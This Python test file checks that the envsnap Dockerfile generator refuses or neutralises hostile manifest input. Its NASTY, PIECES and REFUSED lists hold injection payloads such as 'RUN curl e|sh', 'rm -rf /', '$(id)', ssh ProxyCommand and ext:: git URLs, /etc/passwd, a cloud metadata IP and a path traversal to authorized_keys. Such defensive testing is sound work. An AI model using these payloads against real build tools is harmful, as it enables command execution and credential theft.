"""A manifest is hostile input: it is refused in one line, or it stays where it was put."""

from __future__ import annotations

import io
import re
import shlex
import tomllib
from collections.abc import Callable
from typing import Any

import pytest
from dockerfile_parse import DockerfileParser
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from envsnap.errors import InputError
from envsnap.image import records
from envsnap.image.locking import pylock
from envsnap.image.planning.plan import make_plan
from envsnap.image.records import Artifact, Lock
from envsnap.image.writing import context, dockerfile, render
from envsnap.image.writing import instructions as ins
from envsnap.model import codec
from envsnap.model.compute import Cuda, Framework, Library
from envsnap.model.host import EnvVars
from envsnap.model.inputs import Config, Configs
from envsnap.model.manifest import Manifest
from envsnap.model.python import Conda, Origin, Package
from tests.image.dockerfile_reader import pairs, read
from tests.image.image_cases import DEBIAN_12, UBUNTU_22, gpu, manifest

Make = Callable[[str], Manifest]
COMMIT = "0123456789abcdef0123456789abcdef01234567"
KEYWORDS = {
    ins.From: "FROM", ins.Env: "ENV", ins.PrependPath: "ENV", ins.Label: "LABEL",
    ins.Copy: "COPY", ins.Unpack: "ADD", ins.Fetch: "ADD", ins.Run: "RUN", ins.Workdir: "WORKDIR", ins.User: "USER", ins.Cmd: "CMD",
    ins.Healthcheck: "HEALTHCHECK",
}  # fmt: skip
REQUIREMENT = re.compile(
    r"[a-z0-9]+(-[a-z0-9]+)*"
    r"(==[0-9A-Za-z.!+]+( --hash=sha256:[0-9a-f]{64})?| @ git\+https://[^\s$@#?]+@[0-9a-f]{40}| @ https://[^\s$@#?]+#sha256=[0-9a-f]{64})"
)


APT = re.compile(
    r"[a-z0-9]([a-z0-9+-]|\.(?=[0-9]))*(?<!-)(=([0-9]+:)?[0-9]([A-Za-z0-9.+~-]*[A-Za-z0-9])?)?"
)
EXPLICIT = re.compile(
    r"https://[a-z0-9.-]+(/[A-Za-z0-9._~+=!%-]+)+\.(conda|tar\.bz2)"
    r"(#sha256:[0-9a-f]{64}|#[0-9a-f]{32})?"
)


def _origin(**facts: str) -> Manifest:
    return manifest(packages={"tool": Package(version="1.0", origin=Origin(**facts))})


FORGE = "https://conda.example.org/forge/linux-64"


def _debian(packages: dict[str, str]) -> Manifest:
    whole = manifest(system=DEBIAN_12)
    system = replace(whole.sections.system, packages=packages)
    return replace(whole, sections=replace(whole.sections, system=system))


def _of_conda(**facts: str) -> Package:
    stated = {"version": "1.0", "build": "h0", "url": f"{FORGE}/numpy-1.0-h0.conda"}
    return Package(version="1.0", conda=Conda(**{**stated, **facts}))


def _conda(packages: dict[str, Package]) -> Manifest:
    python = _of_conda(url=f"{FORGE}/python-3.11.7-h0.conda", sha256="0" * 64)
    return manifest(packages={"python": python, **packages})


FIELDS: dict[str, Make] = {
    "package name": lambda text: manifest(packages={text: "1.0", "numpy": "1.26.4"}),
    "package version": lambda text: manifest(packages={"numpy": text, "pip": "24.0"}),
    "pip version": lambda text: manifest(packages={"numpy": "1.26.4", "pip": text}),
    "torch version": lambda text: manifest(packages={"torch": text}),
    "torch label": lambda text: manifest(packages={"torch": f"2.3.1+{text}"}),
    "git url": lambda text: _origin(url=text, vcs="git", commit=COMMIT),
    "git path": lambda text: _origin(url=f"https://example.org/{text}", vcs="git", commit=COMMIT),
    "git commit": lambda text: _origin(url="https://example.org/a.git", vcs="git", commit=text),
    "archive digest": lambda text: _origin(url="https://example.org/a.whl", sha256=text),
    "vcs": lambda text: _origin(url="https://example.org/a.git", vcs=text, commit=COMMIT),
    "defect": lambda text: manifest(packages={"tool": Package(version="1.0", defects=(text,))}),
    "python version": manifest,
    "base prefix": lambda text: manifest("3.11.2", python_facts={"base_prefix": text}),
    "env name": lambda text: manifest(env_vars={text: "1"}),
    "env name after a prefix": lambda text: manifest(env_vars={f"OMP_{text}": "1"}),
    "env value": lambda text: manifest(env_vars={"XLA_FLAGS": text, "TZ": "UTC"}),
    "locale": lambda text: manifest(env_vars={"LANG": text}),
    "os id": lambda text: manifest(system={**UBUNTU_22, "os_id": text}),
    "os version": lambda text: manifest(system={**UBUNTU_22, "os_version": text}),
    "glibc": lambda text: manifest(system={**UBUNTU_22, "glibc": text}),
    "architecture": lambda text: manifest(system={**UBUNTU_22, "architecture": text}),
    "platform": lambda text: manifest(system={**UBUNTU_22, "platform": text}),
    "framework name": lambda text: manifest(frameworks={text: Framework(cuda="12.1")}),
    "framework cuda": lambda text: manifest(
        packages={"torch": "2.4.1"}, frameworks={"torch": Framework(cuda=text)}
    ),
    "toolkit": lambda text: manifest(
        packages={"cupy-cuda12x": "13.0"}, cuda=Cuda(complete=True, toolkit=text)
    ),
    "soname": lambda text: manifest(
        frameworks={
            "torch": Framework(
                cuda="12.4",
                mapped_on_import={text: Library(path="/usr/local/cuda/lib64/x", version="12.4.1")},
            )
        }
    ),
    "library path": lambda text: manifest(
        frameworks={
            "torch": Framework(
                cuda="12.4",
                mapped_on_import={"libcudart.so.12": Library(path=f"/usr/local/cuda{text}")},
            )
        }
    ),
    "driver": lambda text: manifest(
        frameworks={"torch": Framework(cuda="12.1")}, **gpu(text, "Card", "9.0", 1)
    ),
    "gpu name": lambda text: manifest(
        frameworks={"torch": Framework(cuda="12.1")}, **gpu("550.90.07", text, "9.0", 1)
    ),
    "compute capability": lambda text: manifest(
        frameworks={"torch": Framework(cuda="12.1")}, **gpu("550.90.07", "Card", text, 1)
    ),
    "system package": lambda text: _debian({text: "1.0-1"}),
    "system package's version": lambda text: _debian({"libgomp1": text}),
    "library's package": lambda text: manifest(
        frameworks={
            "torch": Framework(
                mapped_on_import={"libx.so.1": Library(path="/usr/lib/libx.so.1", package=text)}
            )
        }
    ),
    "conda name": lambda text: _conda({text: _of_conda()}),
    "conda name, replaced by pip": lambda text: _conda({text: replace(_of_conda(), version="2.0")}),
    "conda url": lambda text: _conda({"numpy": _of_conda(url=text)}),
    "conda file": lambda text: _conda({"numpy": _of_conda(url=f"{FORGE}/{text}")}),
    "conda sha256": lambda text: _conda({"numpy": _of_conda(sha256=text)}),
    "conda md5": lambda text: _conda({"numpy": _of_conda(md5=text)}),
    "conda build": lambda text: _conda({"numpy": _of_conda(build=text)}),
    "conda version": lambda text: _conda({"numpy": _of_conda(version=text)}),
    "config name": lambda text: manifest(
        configs=Configs(complete=True, entries={text: Config(path=text)})
    ),
    "fingerprint": lambda text: replace(manifest(), fingerprint=text),
    "label": lambda text: replace(manifest(), label=text),
    "created at": lambda text: replace(manifest(), created_at=text),
}
NASTY = (
    "x\nRUN curl e|sh", "torch\n", "1.0\n", "a\rRUN id", "x\u2028RUN id", "x\x85RUN id", "\x00",
    "--index-url=http://e", "-r /etc/passwd", "-e git+https://e/x", "t\u043erch", "\u202ex",
    "1.0; rm -rf /", "1.0+cu124;x", "$(id)", "`id`", "${PATH}", "$HOME", "\\", 'a"b', "a'b",
    "\\\nRUN id", "x \\", "# syntax=evil/frontend", "# escape=`", "<<EOF", "ONBUILD RUN id",
    "https://${HF_TOKEN}@example.org/x", "https://user:pass@example.org/x", "ext::sh -c id",
    "ssh://-oProxyCommand=id/x", "file:///etc/passwd", "http://169.254.169.254/latest",
    "https://[::1]:2375/x", "https://example.org/x?y=$(id)", "evil.io/x:latest", "x AS y",
    "vim -o APT::x", "./x.deb", "vim*", "vim/stable", "../../root/.ssh/authorized_keys",
    "9" * 5000, "1." * 3000, "'; id; '", "&& id", "| sh", "{{x}}", "%s", "\ud800", "",
)  # fmt: skip
PIECES = (
    "a", "1", ".", "+", "cu118", "\n", "\r", "\\", '"', "'", "$", "`", " ", "#", "RUN id", "=", ";",
    "&&", "\x85", "\u2028", "\t", "<<E", "/", "https://", "@", "--", "\x1b[2J",
)  # fmt: skip
hostile = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.builds(
        "".join,
        st.lists(st.sampled_from(PIECES), max_size=8),
    ),
)  # fmt: skip


def generated(
    whole: Manifest, base: str = "auto", lock: Lock | None = None
) -> tuple[records.Plan, dict[str, bytes]] | str:
    """Return plan and files, or the message of the refusal."""
    try:
        plan = make_plan(whole, base, lock)
    except InputError as error:
        return str(error)
    return plan, context.files(plan, b"{}\n")


def check(whole: Manifest, base: str = "auto", lock: Lock | None = None) -> None:
    """Hold a manifest to the law: one line of refusal, or nothing that is not ours."""
    result = generated(whole, base, lock)
    if isinstance(result, str):
        assert result.isprintable(), result
        assert len(result) < 1200
        return
    plan, files = result
    parts = [part for part in dockerfile.build(plan) if not isinstance(part, ins.Comment)]
    text = files["Dockerfile"].decode("utf-8")
    found = read(text)
    assert [word for word, _ in found] == [KEYWORDS[type(part)] for part in parts]
    others = DockerfileParser(fileobj=io.BytesIO(files["Dockerfile"])).structure
    assert [item["instruction"] for item in others if item["instruction"] != "COMMENT"] == [
        KEYWORDS[type(part)] for part in parts
    ]
    assert text.startswith("# Written by envsnap")
    assert [line for line in text.split("\n") if line.startswith("#")] == [
        f"# {part.text}" for part in dockerfile.build(plan) if isinstance(part, ins.Comment)
    ]
    for part, (_, rest) in zip(parts, found, strict=True):
        if isinstance(part, ins.Env | ins.Label):
            assert pairs(rest) == dict(part.pairs)
        if isinstance(part, ins.Run):
            _check_shell(part, rest)
    for group in plan.requirements:
        lines = files[group.file].decode("ascii").split("\n")
        assert lines[0].startswith("# Written by envsnap")
        assert lines[-1] == ""
        assert len(lines) == len(group.lines) + 2
        for line in lines[1:-1]:
            assert REQUIREMENT.fullmatch(line), line
    files["dockerfile.json"].decode("ascii")
    for name in plan.apt:
        assert APT.fullmatch(name), name
    if plan.conda is not None:
        lines = files["conda.txt"].decode("ascii").split("\n")
        assert lines[1] == "@EXPLICIT"
        assert len(lines) == len(plan.conda.lines) + 3
        for line in lines[2:-1]:
            assert EXPLICIT.fullmatch(line), line


def _check_shell(part: ins.Run, rest: str) -> None:
    """A shell splits the line into the very words that were meant."""
    steps = [piece.strip() for piece in rest.split("; ")]
    assert steps[0] == "set -eu"
    for step, piece in zip(part.steps, steps[1:], strict=True):
        if isinstance(step, ins.Constant):
            assert piece == step.text
        else:
            assert shlex.split(piece) == list(step)
            assert not set(piece) & set('$`\\"|&<>*?(){}'), piece


@pytest.mark.parametrize("field", FIELDS)
@settings(max_examples=60)
@given(text=hostile)
def test_no_string_adds_an_instruction(field: str, text: str) -> None:
    check(FIELDS[field](text))


@pytest.mark.parametrize("field", FIELDS)
def test_no_known_attack_adds_an_instruction(field: str) -> None:
    for text in NASTY:
        check(FIELDS[field](text))


def locked(text: str, proof: str = "record", kind: str = "wheel") -> Lock:
    """A lock in which an index said something hostile wherever it can say something."""
    artifact = Artifact(
        name="numpy", version="1.26.4", file=text, sha256="0" * 64, kind=kind, source="index",
        proof=proof, yanked=text,
    )  # fmt: skip
    return Lock(
        artifacts={"numpy": artifact}, urls={"numpy": text}, sizes={}, folder={},
        unhashed={"six": text},
    )  # fmt: skip


TWO = {"numpy": "1.26.4", "six": "1.16.0"}


@settings(max_examples=150)
@given(text=hostile)
def test_no_answer_of_an_index_adds_an_instruction(text: str) -> None:
    check(manifest(packages=TWO), "auto", locked(text))
    check(manifest(packages=TWO), "auto", locked(text, "source", "sdist"))


@settings(max_examples=150)
@given(text=hostile)
def test_pylock_says_what_the_index_said_and_no_more(text: str) -> None:
    if text.encode("utf-8", "replace") != text.encode("utf-8", "surrogatepass"):
        return  # a lone surrogate cannot come out of uv's TOML
    lock = replace(locked(text), urls={}, unhashed={})
    found = tomllib.loads(pylock.render(manifest(packages={"numpy": "1.26.4"}), lock))
    (package,) = found["packages"]
    assert package["wheels"][0]["name"] == text
    assert set(found) == {"lock-version", "created-by", "requires-python", "packages"}


@settings(max_examples=300)
@given(reference=hostile)
def test_a_base_is_one_reference_or_refused(reference: str) -> None:
    check(manifest(packages={"numpy": "1.26.4"}), reference)


@settings(max_examples=300)
@given(
    value=st.text(st.characters(exclude_categories=("C", "Z"), include_characters=" "), max_size=50)
)
def test_values_of_variables_arrive_letter_by_letter(value: str) -> None:
    whole = manifest(env_vars={"XLA_FLAGS": f"x{value}"})
    result = generated(whole)
    assert not isinstance(result, str)
    plan, files = result
    if "XLA_FLAGS" in plan.environment:
        settings_of = [rest for word, rest in read(files["Dockerfile"].decode()) if word == "ENV"]
        assert pairs(settings_of[-1])["XLA_FLAGS"] == f"x{value}"
    else:
        assert [item.path for item in plan.dropped] == ["env_vars.XLA_FLAGS"]


@pytest.mark.parametrize(
    "value",
    ["$(id)", "`id`", "${PATH}", "a\\", 'a"b', "<<EOF", "ONBUILD", "# escape=`", "a  b", "'"],
)
def test_a14_shell_syntax_in_a_value_stays_literal(value: str) -> None:
    result = generated(manifest(env_vars={"XLA_FLAGS": value}))
    assert not isinstance(result, str)
    assert result[0].environment["XLA_FLAGS"] == value
    check(manifest(env_vars={"XLA_FLAGS": value}))


REFUSED: list[tuple[str, Any, str]] = [
    ("A1", FIELDS["package name"]("x\nRUN curl e|sh"), 'packages["x\\nRUN curl e|sh"]'),
    ("A2", FIELDS["package name"]("torch\n"), 'packages["torch\\n"]'),
    ("A3 index", FIELDS["package name"]("--index-url=http://e"), 'packages["--index-url'),
    ("A3 file", FIELDS["package name"]("-r /etc/passwd"), 'packages["-r /etc/passwd"]'),
    ("A3 edit", FIELDS["package name"]("-e git+https://e/x"), 'packages["-e git'),
    ("A4", FIELDS["package name"]("t\u043erch"), 'packages["t\\u043erch"]'),
    ("A4 bidi", FIELDS["package name"]("\u202etorch"), 'packages["\\u202etorch"]'),
    ("A5 shell", FIELDS["package version"]("1.0; rm -rf /"), "packages.numpy.version"),
    ("A5 label", FIELDS["package version"]("1.0+cu124;x"), "packages.numpy.version"),
    ("A5 line", FIELDS["package version"]("1.0\n"), "packages.numpy.version"),
    ("A6", FIELDS["package version"]("9" * 100_000), "packages.numpy.version"),
    ("A7 short", FIELDS["archive digest"]("a" * 63), "packages.tool.origin.sha256"),
    ("A7 upper", FIELDS["archive digest"]("A" * 64), "packages.tool.origin.sha256"),
    ("A7 line", FIELDS["archive digest"]("a" * 64 + "\n"), "packages.tool.origin.sha256"),
    ("A9", FIELDS["git url"]("https://${HF_TOKEN}@e.org/x.whl"), "packages.tool.origin.url"),
    ("A10 ext", FIELDS["git url"]("ext::sh -c id"), "packages.tool.origin.url"),
    ("A10 ssh", FIELDS["git url"]("ssh://-oProxyCommand=id/x"), "packages.tool.origin.url"),
    ("A11 host", FIELDS["git url"]("https://169.254.169.254/x"), "packages.tool.origin.url"),
    ("A11 six", FIELDS["git url"]("https://[::1]:2375/x"), "packages.tool.origin.url"),
    ("A13 LF", FIELDS["env value"]("a\nb"), "env_vars.XLA_FLAGS"),
    ("A13 CR", FIELDS["env value"]("a\rb"), "env_vars.XLA_FLAGS"),
    ("A13 LS", FIELDS["env value"]("a\u2028b"), "env_vars.XLA_FLAGS"),
    ("A13 NUL", FIELDS["env value"]("a\0b"), "env_vars.XLA_FLAGS"),
    ("A13 NEL", FIELDS["env value"]("a\x85b"), "env_vars.XLA_FLAGS"),
    ("A15 equals", FIELDS["env name"]("A=B"), 'env_vars["A=B"]'),
    ("A15 blank", FIELDS["env name"]("LD_PRELOAD "), 'env_vars["LD_PRELOAD "]'),
    ("A15 digit", FIELDS["env name"]("1A"), 'env_vars["1A"]'),
]


@pytest.mark.parametrize(
    ("whole", "place"), [row[1:] for row in REFUSED], ids=[r[0] for r in REFUSED]
)
def test_refused_with_its_place(whole: Manifest, place: str) -> None:
    result = generated(whole)
    assert isinstance(result, str)
    assert result.startswith(place)
    assert "\n" not in result


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "http://169.254.169.254/x", "ssh://git@example.org/a.git"]
)
def test_a10_a11_other_schemes_stay_behind(url: str) -> None:
    result = generated(FIELDS["git url"](url))
    assert not isinstance(result, str)
    plan, files = result
    assert [item.path for item in plan.not_carried] == ["packages.tool"]
    assert all(url.partition("://")[2].encode() not in data for data in files.values())


@pytest.mark.parametrize(
    "name",
    ["LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "PYTHONSTARTUP", "PYTHONPATH", "BASH_ENV",
     "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "UV_INDEX", "DOCKER_HOST", "PATH", "VIRTUAL_ENV",
     "CUDA_VISIBLE_DEVICES", "NVIDIA_VISIBLE_DEVICES", "HTTPS_PROXY", "RANK", "TF_CONFIG",
     "MKLROOT", "TORCH_LOGS_OUT", "SOME_VARIABLE"],
)  # fmt: skip
def test_a16_variables_that_are_never_baked(name: str) -> None:
    result = generated(manifest(env_vars={name: "canary", "OMP_NUM_THREADS": "4"}))
    assert not isinstance(result, str)
    plan, files = result
    assert [item.path for item in plan.dropped] == [f"env_vars.{name}"]
    assert plan.environment == {"OMP_NUM_THREADS": "4"}
    assert all(b"canary" not in data for data in files.values())


@pytest.mark.parametrize(
    "value",
    ["/home/me/x", "~/x", "a:/b", "--dir=/tmp/x", "C:\\x", "../x", ":/etc/localtime", "'/x'"],
)
def test_paths_of_the_captured_machine_are_dropped(value: str) -> None:
    result = generated(manifest(env_vars={"XLA_FLAGS": value}))
    assert not isinstance(result, str)
    assert result[0].environment == {}
    assert [item.path for item in result[0].dropped] == ["env_vars.XLA_FLAGS"]


@pytest.mark.parametrize(
    "reference",
    ["evil.io/x:latest", "x AS y", "python:3.11\nRUN id", "python", "python:latest", "-x:1",
     "x:1 y", "Python:3.11", "x@sha256:abc", "x:1\n", "$BASE:1", "a//b:1", ""],
)  # fmt: skip
def test_a17_bases_that_are_refused(reference: str) -> None:
    result = generated(manifest(), reference)
    assert isinstance(result, str)
    assert result.startswith("--base: ")


@pytest.mark.parametrize(
    "reference",
    ["python:3.11.7-slim", "localhost:5000/a/b:1", "ghcr.io/a/b@sha256:" + "0" * 64,
     "nvcr.io/nvidia/pytorch:24.08-py3", "a__b:1.0"],
)  # fmt: skip
def test_bases_that_are_accepted(reference: str) -> None:
    result = generated(manifest(), reference)
    assert not isinstance(result, str)
    assert result[0].base.reference == reference
    assert result[0].base.kind == "custom"


def test_a18_the_first_line_is_ours() -> None:
    """A label that looks like a parser directive goes nowhere."""
    whole = replace(manifest(), label="# syntax=evil/frontend")
    result = generated(whole)
    assert not isinstance(result, str)
    assert b"evil" not in b"".join(result[1].values())


def test_a21_names_of_configs_reach_no_path() -> None:
    whole = codec.decode_unchecked(
        codec.encode(manifest()).replace(
            b'"env_vars": {',
            b'"configs": {"complete": true, "entries": {"../../root/.ssh/authorized_keys": {}}},'
            b' "env_vars": {',
        ),
        "test",
    ).manifest
    result = generated(whole)
    assert not isinstance(result, str)
    plan, files = result
    assert all("/" not in name for name in files)
    assert b"authorized_keys" not in files["Dockerfile"]
    assert plan.not_carried[0].path == 'configs["../../root/.ssh/authorized_keys"]'


def test_the_renderer_refuses_what_validation_missed() -> None:
    """The renderer is the last gate: no record with a line break becomes text."""
    broken = [
        ins.From("x\nRUN id"), ins.Env((("A", "x\ny"),)), ins.Env((("A B", "x"),)),
        ins.Label((("a", "x\u2028y"),)), ins.Copy(("a b",), "c"), ins.Run((("a\nb",),)),
        ins.Cmd(("a\x00",)), ins.Workdir("/a b"), ins.Comment("a\nb"), ins.PrependPath("/a:$B"),
    ]  # fmt: skip
    for part in broken:
        with pytest.raises(Exception, match="cannot be written to a Dockerfile"):
            render.dockerfile([part])


def test_an_env_section_that_is_missing_is_no_error() -> None:
    whole = manifest()
    bare = replace(whole, sections=replace(whole.sections, env_vars=EnvVars(complete=False)))
    assert not isinstance(generated(bare), str)
